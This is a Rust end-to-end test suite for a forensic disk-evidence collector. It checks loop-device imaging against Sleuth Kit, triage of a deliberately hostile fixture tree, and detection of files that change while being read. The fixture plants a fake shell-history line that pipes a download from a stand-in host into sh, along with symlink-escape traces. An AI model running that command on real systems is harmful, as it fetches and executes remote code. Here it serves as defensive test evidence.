//! Disk evidence end to end (issue #5), as root with real loop devices and The Sleuth Kit:
//! an ext4 image taken through the collector is the device byte for byte and `fls`/`icat` read
//! it; triage of a hostile fixture tree records links and FIFOs without following or hanging,
//! keeps non-UTF-8 names exact, and writes a bodyfile `mactime` reads; a file that grows while
//! it is collected is recorded as changed.

// Test code: a failed unwrap is a failed test, with its message.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use cairn_harness::*;
use serde_json::Value;

const TOOL_TIMEOUT: Duration = Duration::from_secs(120);

fn sh(program: &str, args: &[&OsStr]) -> Output {
    let mut cmd = Command::new(program);
    cmd.args(args);
    run(cmd, TOOL_TIMEOUT).unwrap().ok().unwrap()
}

fn require_root() {
    assert!(
        nix_is_root(),
        "the disk tests need root (loop devices, mount): run them as root (CI does)"
    );
}

fn nix_is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

/// A loop device over an image file, detached on drop (also when the test fails).
struct LoopDevice(PathBuf);

impl LoopDevice {
    fn attach(image: &Path) -> LoopDevice {
        let out = sh(
            "losetup",
            &["--find".as_ref(), "--show".as_ref(), image.as_os_str()],
        );
        LoopDevice(PathBuf::from(out.stdout.trim()))
    }
}

impl Drop for LoopDevice {
    fn drop(&mut self) {
        let _ = Command::new("losetup").arg("-d").arg(&self.0).status();
    }
}

/// A mounted filesystem, unmounted on drop.
struct Mount(PathBuf);

impl Mount {
    fn new(dev: &Path, at: &Path) -> Mount {
        std::fs::create_dir_all(at).unwrap();
        sh(
            "mount",
            &[
                "-t".as_ref(),
                "ext4".as_ref(),
                dev.as_os_str(),
                at.as_os_str(),
            ],
        );
        Mount(at.to_path_buf())
    }
}

impl Drop for Mount {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.0).status();
    }
}

const KNOWN: &str = "cairn disk evidence: this line is known content\n";
const NON_UTF8: &[u8] = b"caf\xe9-notes.txt";

/// A 64 MiB ext4 image on a loop device: a known file, a non-UTF-8 name, a deleted file
/// (whose inode number is returned).
fn ext4_loop_device(work: &Path) -> (LoopDevice, u64) {
    let img = work.join("ext4.img");
    std::fs::File::create(&img)
        .unwrap()
        .set_len(64 << 20)
        .unwrap();
    sh(
        "mkfs.ext4",
        &["-q".as_ref(), "-F".as_ref(), img.as_os_str()],
    );
    let dev = LoopDevice::attach(&img);
    let deleted_inode = {
        let mnt = Mount::new(&dev.0, &work.join("mnt"));
        let dir = mnt.0.join("evidence");
        std::fs::create_dir(&dir).unwrap();
        std::fs::write(dir.join("known.txt"), KNOWN.repeat(100)).unwrap();
        std::fs::write(dir.join(OsStr::from_bytes(NON_UTF8)), b"latin-1 name\n").unwrap();
        std::fs::write(dir.join("deleted.txt"), b"written, then deleted\n").unwrap();
        sh("sync", &[]);
        let deleted_inode = std::os::unix::fs::MetadataExt::ino(
            &std::fs::metadata(dir.join("deleted.txt")).unwrap(),
        );
        std::fs::remove_file(dir.join("deleted.txt")).unwrap();
        sh("sync", &[]);
        deleted_inode
    };
    (dev, deleted_inode)
}

#[test]
fn disk_image_through_the_collector_is_the_device_and_sleuthkit_reads_it() {
    require_root();
    let work = workdir("disk-image").unwrap();
    let (dev, deleted_inode) = ext4_loop_device(work.path());
    let dev_path = dev.0.to_string_lossy().into_owned();
    let device_sha = sha256sum_cli(&dev.0).unwrap();

    let (collector, _agent, host) = collector_with_agent(work.path()).unwrap();
    let out = collector
        .cli_raw(
            &[
                "collect",
                &host,
                "--profile",
                "disk",
                "--device",
                &dev_path,
                "--reason",
                "e2e disk image",
                "--wait",
                "--timeout",
                "300",
            ],
            Duration::from_secs(330),
        )
        .unwrap();
    let v = out.json().unwrap();
    let collection = collector
        .wait_finished(&s(&v, "id").unwrap(), Duration::from_secs(60))
        .unwrap();
    assert_eq!(collection["status"], "sealed", "{}", summary(&collection));
    let item = items(&collection)
        .into_iter()
        .find(|i| i.pointer("/source/device").and_then(Value::as_str) == Some(dev_path.as_str()))
        .unwrap_or_else(|| panic!("no item for {dev_path}: {}", summary(&collection)));
    assert_eq!(item["kind"], "disk_image", "{item:#}");
    let details = &item["source"]["details"];
    assert_eq!(details["size"], 64u64 << 20, "{details:#}");
    assert_eq!(details["type"], "block_device", "{details:#}");
    assert!(
        details["logical_sector_size"].as_u64().is_some(),
        "{details:#}"
    );
    assert!(
        details["partition_table"]["scheme"].is_string(),
        "{details:#}"
    );
    assert_eq!(
        s(&item, "sha256").unwrap(),
        device_sha,
        "manifest vs sha256sum {dev_path}"
    );

    let exported = work.path().join("exported.raw");
    collector
        .export(&s(&item, "id").unwrap(), &exported)
        .unwrap();
    assert_eq!(
        sha256sum_cli(&exported).unwrap(),
        device_sha,
        "exported image vs sha256sum {dev_path}"
    );

    // The Sleuth Kit reads the exported image: live files, the non-UTF-8 one, the deleted one.
    let fls = sh("fls", &["-r".as_ref(), "-p".as_ref(), exported.as_os_str()]).stdout;
    let known_line = fls
        .lines()
        .find(|l| l.ends_with("evidence/known.txt"))
        .unwrap_or_else(|| panic!("fls does not list evidence/known.txt:\n{fls}"));
    // Kernels since 5.14 wipe a deleted ext4 directory entry's name, so TSK finds the deleted
    // file by its inode, as an orphan (`-/r * 15: $OrphanFiles/OrphanFile-15`).
    let deleted = format!("* {deleted_inode}:");
    assert!(
        fls.lines().any(|l| l.contains(&deleted)),
        "fls does not list the deleted file (inode {deleted_inode}) as deleted (*):\n{fls}"
    );
    assert!(
        fls.contains("-notes.txt"),
        "fls does not list the non-UTF-8 name:\n{fls}"
    );
    // "r/r 13:\tevidence/known.txt" → inode 13
    let inode = known_line
        .split(':')
        .next()
        .and_then(|l| l.split_whitespace().last())
        .unwrap()
        .to_string();
    let mut icat = Command::new("icat");
    icat.arg(&exported).arg(&inode);
    let content = run(icat, TOOL_TIMEOUT).unwrap().ok().unwrap().stdout;
    assert_eq!(
        content,
        KNOWN.repeat(100),
        "icat {inode} of the exported image"
    );

    // Offline, the same device: same hash, and the mostly empty image costs little space
    // (all-zero chunks are stored as nothing).
    let dir = work.path().join("offline");
    let mut cmd = Command::new(bin("cairn-agent").unwrap());
    cmd.env_remove("CAIRN_AGENT_STATE")
        .arg("--state-dir")
        .arg(work.path().join("no-state"))
        .args(["capture", "disk", "--device", &dev_path, "--out"])
        .arg(&dir);
    run(cmd, Duration::from_secs(300)).unwrap().ok().unwrap();
    let (manifest, frames) = only_manifest(&dir.join("items"));
    assert_eq!(manifest["sha256"], device_sha.as_str(), "offline manifest");
    assert_eq!(manifest["status"], "complete");
    let stored = std::fs::metadata(&frames).unwrap().len();
    assert!(
        stored < (64 << 20) / 4,
        "a mostly empty 64 MiB image took {stored} bytes: zero chunks are not stored cheaply"
    );
}

/// The one `*.manifest.json` in an offline items directory, and its `.cairn` file.
fn only_manifest(items: &Path) -> (Value, PathBuf) {
    let mut found = Vec::new();
    for e in std::fs::read_dir(items).unwrap() {
        let p = e.unwrap().path();
        if p.to_string_lossy().ends_with(".manifest.json") {
            found.push(p);
        }
    }
    assert_eq!(found.len(), 1, "{found:?}");
    let m: Value = serde_json::from_slice(&std::fs::read(&found[0]).unwrap()).unwrap();
    let frames = items.join(format!("{}.cairn", m["item_id"].as_str().unwrap()));
    (m, frames)
}

/// A fake root with the things attackers and unlucky hosts have in `/var/log` and homes.
fn fixture_tree(root: &Path, outside: &Path) {
    for d in ["var/log/nested", "etc", "home/alice", "tmp"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    std::fs::write(
        root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    )
    .unwrap();
    std::fs::write(
        root.join("var/log/auth.log"),
        "Nov 29 10:00:01 web sshd[811]: Accepted publickey for alice from 203.0.113.9\n",
    )
    .unwrap();
    std::fs::write(
        root.join("home/alice/.bash_history"),
        "curl -s http://203.0.113.9/x | sh\n",
    )
    .unwrap();
    std::fs::write(outside.join("secret"), "outside the tree\n").unwrap();
    std::os::unix::fs::symlink(outside.join("secret"), root.join("var/log/escape")).unwrap();
    std::os::unix::fs::symlink("../../../../../../..", root.join("var/log/nested/up")).unwrap();
    let fifo = std::ffi::CString::new(root.join("var/log/pipe").as_os_str().as_bytes()).unwrap();
    // SAFETY: a NUL-terminated path; mkfifo only creates the node.
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o600) }, 0, "mkfifo");
    std::fs::write(
        root.join("var/log").join(OsStr::from_bytes(NON_UTF8)),
        b"latin-1 name\n",
    )
    .unwrap();
    std::fs::write(root.join("tmp/.x"), b"\x7fELF dropped").unwrap();
}

#[test]
fn triage_of_a_hostile_tree_records_links_skips_fifos_keeps_names_and_mactime_reads_it() {
    let work = workdir("disk-triage").unwrap();
    let root = work.path().join("root");
    let outside = work.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    fixture_tree(&root, &outside);

    let dir = work.path().join("triage");
    let mut cmd = Command::new(bin("cairn-agent").unwrap());
    cmd.env_remove("CAIRN_AGENT_STATE")
        .arg("--state-dir")
        .arg(work.path().join("no-state"))
        .args(["collect", "--profile", "triage", "--root"])
        .arg(&root)
        // A tree that names no host: the responder names it.
        .args(["--host", "hostile-tree"])
        .arg("--out")
        .arg(&dir);
    // A FIFO that blocked the walk would hit this timeout.
    run(cmd, Duration::from_secs(60)).unwrap().ok().unwrap();

    let collector = Collector::start(work.path()).unwrap();
    let imported = collector
        .cli_raw(
            &["import", &dir.to_string_lossy()],
            Duration::from_secs(120),
        )
        .unwrap();
    let id = imported
        .json()
        .ok()
        .and_then(|v| {
            v["id"]
                .as_str()
                .or(v["collection_id"].as_str())
                .map(str::to_string)
        })
        .unwrap_or_else(|| imported.clone().ok().unwrap().stdout.trim().to_string());
    let collection = collector.show(&id).unwrap();
    assert_eq!(collection["status"], "sealed", "{}", summary(&collection));
    let export = |name: &str| -> Vec<u8> {
        let item = item_named(&collection, name)
            .unwrap_or_else(|| panic!("no item {name}: {}", summary(&collection)));
        let out = work
            .path()
            .join(format!("export-{}", s(&item, "id").unwrap()));
        collector.export(&s(&item, "id").unwrap(), &out).unwrap();
        std::fs::read(out).unwrap()
    };

    // Files are items with their host path and metadata.
    let auth = item_named(&collection, "/var/log/auth.log").unwrap();
    assert_eq!(auth["kind"], "file");
    assert_eq!(auth["source"]["path"], "/var/log/auth.log");
    for key in [
        "size", "mode", "uid", "gid", "inode", "mtime", "atime", "ctime", "btime",
    ] {
        assert!(
            auth["source"]["details"].get(key).is_some(),
            "no {key}: {auth:#}"
        );
    }
    assert!(export("/home/alice/.bash_history").starts_with(b"curl -s"));

    // The link is recorded with its target and not followed: nothing outside was copied.
    let index: Value = serde_json::from_slice(&export("triage-index.json")).unwrap();
    let entry = |path: &str| {
        index["entries"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["path"] == path)
            .cloned()
            .unwrap_or_else(|| panic!("no index entry {path}: {index:#}"))
    };
    let link = entry("/var/log/escape");
    assert_eq!(link["type"], "symlink");
    assert_eq!(link["action"], "link_recorded");
    assert_eq!(
        link["link_target"],
        outside.join("secret").to_string_lossy().as_ref()
    );
    assert_eq!(entry("/var/log/nested/up")["action"], "link_recorded");
    for i in items(&collection) {
        let p = i
            .pointer("/source/path")
            .and_then(Value::as_str)
            .unwrap_or("");
        assert!(
            !p.contains("escape") && !p.contains("/up"),
            "a link was collected: {i:#}"
        );
    }
    assert!(
        !collection
            .to_string()
            .contains(&sha256_bytes(b"outside the tree\n")),
        "the file outside the tree was read"
    );
    // The FIFO is recorded as skipped.
    let fifo = entry("/var/log/pipe");
    assert_eq!(
        (fifo["type"].as_str(), fifo["action"].as_str()),
        (Some("fifo"), Some("skipped"))
    );

    // The non-UTF-8 name round-trips: exact bytes in path_bytes_hex, content intact.
    let want_path = [b"/var/log/".as_slice(), NON_UTF8].concat();
    let lossy = String::from_utf8_lossy(&want_path).into_owned();
    let odd = item_named(&collection, &lossy)
        .unwrap_or_else(|| panic!("no item for the non-UTF-8 name: {}", summary(&collection)));
    let hex_path = odd["source"]["details"]["path_bytes_hex"].as_str().unwrap();
    assert_eq!(hex::decode(hex_path).unwrap(), want_path);
    assert_eq!(export(&lossy), b"latin-1 name\n");

    // The bodyfile: TSK's format, read by mactime, covering listed-only /tmp too.
    let body_item = item_named(&collection, "bodyfile").unwrap();
    assert_eq!(body_item["source"]["media_type"], "text/x-bodyfile");
    let body = work.path().join("bodyfile");
    std::fs::write(&body, export("bodyfile")).unwrap();
    let mut mactime = Command::new("mactime");
    mactime.args(["-b"]).arg(&body).args(["-d", "-z", "UTC"]);
    let timeline = run(mactime, TOOL_TIMEOUT).unwrap().ok().unwrap().stdout;
    for want in [
        "/var/log/auth.log",
        "/home/alice/.bash_history",
        "/tmp/.x",
        "/var/log/escape -> ",
    ] {
        assert!(
            timeline.contains(want),
            "mactime output lacks {want}:\n{timeline}"
        );
    }
}

#[test]
fn a_file_growing_while_it_is_collected_is_recorded_as_changed() {
    let work = workdir("disk-growing").unwrap();
    let root = work.path().join("root");
    std::fs::create_dir_all(root.join("var/log")).unwrap();
    let log = root.join("var/log/growing.log");
    write_random_file(&log, 96 << 20, 7).unwrap();
    // A writer that keeps appending for the whole collection.
    let mut writer = Command::new("bash");
    writer
        .args(["-c", "while :; do echo appended line >> \"$0\"; done"])
        .arg(&log);
    let _writer = KillOnDrop(writer.spawn().unwrap());
    let profile = work.path().join("growing.toml");
    std::fs::write(
        &profile,
        "name = \"growing\"\n[[artifact]]\npaths = [\"/var/log/growing.log\"]\n",
    )
    .unwrap();

    let dir = work.path().join("out");
    let mut cmd = Command::new(bin("cairn-agent").unwrap());
    cmd.env_remove("CAIRN_AGENT_STATE")
        .arg("--state-dir")
        .arg(work.path().join("no-state"))
        .args(["collect", "--profile-file"])
        .arg(&profile)
        .arg("--root")
        .arg(&root)
        .args(["--host", "growing"])
        .arg("--out")
        .arg(&dir);
    let out = run(cmd, Duration::from_secs(120)).unwrap();
    assert!(
        out.stdout.contains("growing.log"),
        "{}",
        out.describe("did not list the file")
    );
    let mut manifest = None;
    for e in std::fs::read_dir(dir.join("items")).unwrap() {
        let p = e.unwrap().path();
        if p.to_string_lossy().ends_with(".manifest.json") {
            let m: Value = serde_json::from_slice(&std::fs::read(&p).unwrap()).unwrap();
            if m["source"]["path"] == "/var/log/growing.log" {
                manifest = Some(m);
            }
        }
    }
    let m = manifest.expect("no manifest for /var/log/growing.log");
    assert_eq!(m["source"]["details"]["changed_during_read"], true, "{m:#}");
    assert_eq!(m["status"], "partial", "{m:#}");
    assert!(
        m["error"]
            .as_str()
            .unwrap_or("")
            .contains("changed while it was read"),
        "{m:#}"
    );
    let record: Value =
        serde_json::from_slice(&std::fs::read(dir.join("collection.json")).unwrap()).unwrap();
    assert_eq!(record["status"], "partial", "{record:#}");
}

#[test]
fn minimal_triage_through_the_collector_copies_files_with_their_hashes() {
    let work = workdir("disk-live-triage").unwrap();
    let (collector, _agent, host) = collector_with_agent(work.path()).unwrap();
    let collection = collector
        .collect_wait(
            &host,
            "minimal",
            "e2e live triage",
            &[],
            Duration::from_secs(300),
        )
        .unwrap();
    // Live logs may change while read (then the collection is partial, and says why).
    assert!(
        matches!(collection["status"].as_str(), Some("sealed" | "partial")),
        "{}",
        summary(&collection)
    );
    let passwd = item_named(&collection, "/etc/passwd")
        .unwrap_or_else(|| panic!("no /etc/passwd item: {}", summary(&collection)));
    assert_eq!(passwd["kind"], "file");
    assert_eq!(passwd["status"], "sealed", "{passwd:#}");
    assert_eq!(
        s(&passwd, "sha256").unwrap(),
        sha256sum_cli(Path::new("/etc/passwd")).unwrap()
    );
    let body = item_named(&collection, "bodyfile").unwrap();
    assert_eq!(body["source"]["media_type"], "text/x-bodyfile");
    let out = work.path().join("bodyfile");
    collector.export(&s(&body, "id").unwrap(), &out).unwrap();
    let text = std::fs::read_to_string(&out).unwrap();
    assert!(
        text.lines().any(|l| l.starts_with("0|/etc/passwd|")),
        "{text}"
    );
    assert!(item_named(&collection, "triage-index.json").is_some());
}
